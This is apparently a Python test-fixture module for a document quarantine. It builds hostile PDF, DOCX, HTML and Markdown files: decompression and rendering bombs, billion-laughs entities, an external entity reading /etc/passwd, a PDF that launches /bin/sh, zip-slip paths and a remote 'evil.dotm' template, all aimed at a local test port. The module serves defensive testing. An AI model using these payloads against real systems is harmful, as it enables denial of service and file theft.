"""Files made to exhaust, mislead or use whoever opens them, with the reason that each must be refused for.

Where no reason is given, nothing in the file can do harm, and whether it is read is for its reader's own tests.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx

from tests.builders import pdf

SLIPPED = "signpost-slipped"
_MEGA = 2**20
TEXT = b"BT /F1 11 Tf 60 780 Td (Take one tablet.) Tj ET"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file and what it is up to."""

    name: str
    content: bytes
    reason: str = ""  # a pattern of the quarantine's reason; empty: it may be staged


def _objects(*bodies: bytes, root: bytes = b"1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1 on."""
    out = bytearray(b"%PDF-1.5\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, root, start)
    return bytes(out)


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream object with more in its dictionary."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
_PAGES = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"


def _page(more: bytes = b"", resources: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s"
        b" /Resources << /Font << /F1 5 0 R >> %s >> >>" % (more, resources)
    )


def one_page(contents: bytes, *others: bytes, catalog: bytes = b"", page: bytes = b"", resources: bytes = b"") -> bytes:
    """A page with these contents; the other objects are numbered from 6 on."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog
    return _objects(catalog, _PAGES, _page(page, resources), contents, _FONT, *others)


def _bomb(megabytes: int, unit: bytes) -> bytes:
    """So many megabytes of one byte in a zlib stream: one packed megabyte, over and over."""
    part = unit * _MEGA
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = pack.compress(part) + pack.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(megabytes):
        check = zlib.adler32(part, check)
    return b"\x78\xda" + packed * megabytes + pack.flush() + check.to_bytes(4, "big")


def flate_bomb() -> bytes:
    twice = zlib.compress(_bomb(2000, b" "), 9)
    return one_page(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


def drawing_bomb() -> bytes:
    """Each form draws the next one ten times: ten thousand million drawings from a thousand bytes."""
    forms = []
    for level in range(10):
        inner = b"/X Do " * 10 if level < 9 else TEXT
        resources = b"/XObject << /X %d 0 R >>" % (7 + level) if level < 9 else b"/Font << /F1 5 0 R >>"
        forms.append(
            stream(inner, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << %s >>" % resources)
        )
    return one_page(stream(TEXT + b" /X Do"), *forms, resources=b"/XObject << /X 6 0 R >>")


def drawing_loop() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>"
    return one_page(stream(TEXT + b" /X Do"), stream(b"/X Do /X Do", form), resources=b"/XObject << /X 6 0 R >>")


def picture_bomb() -> bytes:
    """A picture of 4,000 million white points."""
    image = b"/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    image = stream(_bomb(1000, b"\xff"), image + b" /Filter /FlateDecode")
    return one_page(stream(TEXT + b" 595 0 0 842 0 0 cm /X Do"), image, resources=b"/XObject << /X 6 0 R >>")


def xref_loop() -> bytes:
    """Its table of objects names itself as the one before."""
    content = pdf(["Take one tablet."])
    start = content.rindex(b"xref\n0 ")
    return content.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % start)


def page_loop() -> bytes:
    pages = b"<< /Type /Pages /Count 3 /Kids [3 0 R 2 0 R 2 0 R] >>"
    return _objects(b"<< /Type /Catalog /Pages 2 0 R >>", pages, _page(), stream(TEXT), _FONT)


def page_crowd() -> bytes:
    """One page object that is named 6,000 times."""
    pages = b"<< /Type /Pages /Count 6000 /Kids [%s] >>" % (b"3 0 R " * 6000)
    return _objects(b"<< /Type /Catalog /Pages 2 0 R >>", pages, _page(), stream(TEXT), _FONT)


def shading_bomb() -> bytes:
    """The colour of each point of the page is worked out in a hundred thousand steps."""
    program = b"{ %s pop pop 0.5 0.5 0.5 }" % (b"dup sin exch " * 50_000)
    function = stream(program, b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]")
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Matrix [595 0 0 842 0 0] /Function 6 0 R >>"
    return one_page(stream(TEXT + b" /S sh"), function, shading, resources=b"/Shading << /S 7 0 R >>")


def outline_loop() -> bytes:
    item = b"<< /Title (Dosing) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Last 7 0 R /Count 9 >>"
    top = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    return one_page(stream(TEXT), top, item, catalog=b"/Outlines 6 0 R")


def length_loop() -> bytes:
    """The length of a stream is the stream itself."""
    contents = b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % TEXT
    return one_page(contents)


def deep_arrays() -> bytes:
    return one_page(stream(TEXT), b"[" * 200_000 + b"]" * 200_000, catalog=b"/Deep 6 0 R")


def deep_states() -> bytes:
    return one_page(stream(b"q " * 500_000 + TEXT))


def acting(port: int) -> bytes:
    """A script, a program to start, a form to send, and contents that stand at another address."""
    url = b"http://127.0.0.1:%d/pdf" % port
    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\);) /Next 6 0 R >>" % url
    launch = b"<< /S /Launch /F (/bin/sh) /Next << /S /SubmitForm /F << /FS /URL /F (%s) >> >> >>" % url
    remote = stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F << /FS /URL /F (%s) >>" % url)
    return one_page(
        *(stream(TEXT + b" /X Do"), launch, remote),
        catalog=action,
        page=b"/AA << /O << /S /URI /URI (%s) >> >>" % url,
        resources=b"/XObject << /X 7 0 R >>",
    )


def attached() -> bytes:
    file = stream(b"MZ" * 100, b"/Type /EmbeddedFile")
    tree = b"/Names << /EmbeddedFiles << /Names [(../../run.exe) 7 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (../../run.exe) /EF << /F 6 0 R >> >>"
    return one_page(stream(TEXT), file, spec, catalog=tree)


def word(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A DOCX whose parts were changed."""
    made = docx.Document()
    made.add_paragraph("Take one tablet.")
    saved = io.BytesIO()
    made.save(saved)
    with zipfile.ZipFile(saved) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _with_dtd(dtd: bytes, used: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        xml = parts["word/document.xml"]
        start = xml.index(b"<w:document")
        parts["word/document.xml"] = xml[:start] + dtd + xml[start:].replace(b"Take one tablet.", used)

    return word(change)


def laughs() -> bytes:
    """A thousand million laughs (CVE-2003-1564)."""
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    return _with_dtd(b"<!DOCTYPE w [%s]>" % entities, b"&a9;")


def quadratic_laughs() -> bytes:
    return _with_dtd(b'<!DOCTYPE w [<!ENTITY a "%s">]>' % (b"ha" * 100_000), b"&a;" * 10_000)


def foreign_entity(port: int) -> bytes:
    dtd = b'<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://127.0.0.1:%d/dtd">]>' % port
    return _with_dtd(dtd, b"&a;&b;")


def zip_bomb() -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        parts["word/media/white.bmp"] = b"\0" * (450 * _MEGA)

    return word(change)


def long_text_bomb() -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        xml = parts["word/document.xml"]
        parts["word/document.xml"] = xml.replace(b"Take one tablet.", b"a " * (30 * _MEGA))

    return word(change)


def zip_slip() -> bytes:
    """Parts that would land outside the folder that they are unpacked into."""

    def change(parts: dict[str, bytes]) -> None:
        for folder in ("", "../", "../../", "../../../", "word/../../"):
            parts[f"{folder}{SLIPPED}"] = b"slipped"

    return word(change)


def macros() -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        parts["word/vbaProject.bin"] = b"Sub AutoOpen()"

    return word(change)


def remote_template(port: int) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        parts["word/_rels/settings.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="%s/attachedTemplate" Target="http://127.0.0.1:%d/evil.dotm"'
            b' TargetMode="External"/></Relationships>' % (kind, port)
        )

    return word(change)


def remote_page(port: int) -> bytes:
    here = b"http://127.0.0.1:%d" % port
    return (
        b'<!DOCTYPE html SYSTEM "%s/html.dtd"><html><head><base href="%s/"><script src="%s/a.js"></script>'
        b'<link rel=stylesheet href="%s/a.css"><meta http-equiv=refresh content="0;url=%s/b"></head>'
        b'<body><h1>Dosing</h1><p>Take one tablet.</p><img src="%s/a.png"></body></html>'
        % (here, here, here, here, here, here)
    )


def files(port: int) -> list[Hostile]:
    """Every hostile file; those that refer to somewhere refer to this port of this machine."""
    return [
        Hostile("flate_bomb.pdf", flate_bomb(), "MiB of memory|crashed"),
        Hostile("drawing_bomb.pdf", drawing_bomb(), "MiB of memory|processor time"),
        Hostile("drawing_loop.pdf", drawing_loop(), "MiB of memory|processor time"),
        Hostile("shading_bomb.pdf", shading_bomb(), "processor time|by the clock"),
        Hostile("picture_bomb.pdf", picture_bomb()),
        Hostile("xref_loop.pdf", xref_loop()),
        Hostile("page_loop.pdf", page_loop(), "page can't be read"),
        Hostile("page_crowd.pdf", page_crowd(), "pages, more than"),
        Hostile("outline_loop.pdf", outline_loop()),
        Hostile("length_loop.pdf", length_loop(), "loop with self reference"),
        Hostile("deep_arrays.pdf", deep_arrays()),
        Hostile("deep_states.pdf", deep_states()),
        Hostile("acting.pdf", acting(port), "runs a script|starts a program"),
        Hostile("attached.pdf", attached(), "carries attached files"),
        Hostile("laughs.docx", laughs(), "entit"),
        Hostile("quadratic_laughs.docx", quadratic_laughs(), "entit"),
        Hostile("foreign_entity.docx", foreign_entity(port), "entit"),
        Hostile("zip_bomb.docx", zip_bomb(), "bytes unpacked, more than"),
        Hostile("long_text_bomb.docx", long_text_bomb(), "bytes unpacked, more than"),
        Hostile("zip_slip.docx", zip_slip(), "leads out of it"),
        Hostile("macros.docx", macros(), "macros"),
        Hostile("remote_template.docx", remote_template(port), "refers to something outside"),
        Hostile("remote.html", remote_page(port)),
        Hostile("deep.html", b"<p>Take one.</p>" + b"<div>" * 300_000, "depth|lie in each other"),
        Hostile("crowd.html", b"<i a=b>x" * 1_200_000, "depth|lie in each other"),
        Hostile("huge.html", b"<p>" + b"a" * (11 * _MEGA), "more than"),
        Hostile("brackets.md", b"[" * 100_000 + b"Take one."),
        Hostile("quotes.md", b"> " * 50_000 + b"Take one.", "no text"),
        Hostile("stars.md", b"*a **a " * 100_000),
    ]
